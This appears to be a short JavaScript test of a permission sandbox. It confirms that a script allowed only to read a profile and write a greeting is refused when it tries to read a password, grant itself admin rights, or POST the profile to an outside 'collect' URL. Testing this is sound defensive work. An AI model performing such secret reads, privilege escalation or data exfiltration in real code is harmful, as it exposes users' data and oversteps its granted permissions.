// It may read the profile and write the greeting: that is
// all its tokens say. A refusal is an error like any other.
$state.greeting = `Hello, ${$state.profile.name}`;

const refused = [];
for (const attempt of [
  () => $state.password,
  () => ($state.profile = { ...$state.profile, admin: true }),
  () => $ext.http.post("https://example.com/collect", $state.profile),
]) {
  try {
    await attempt();
  } catch (error) {
    refused.push(error.code);
    $log.warn(error.message);
  }
}

return { greeting: $state.greeting, refused };
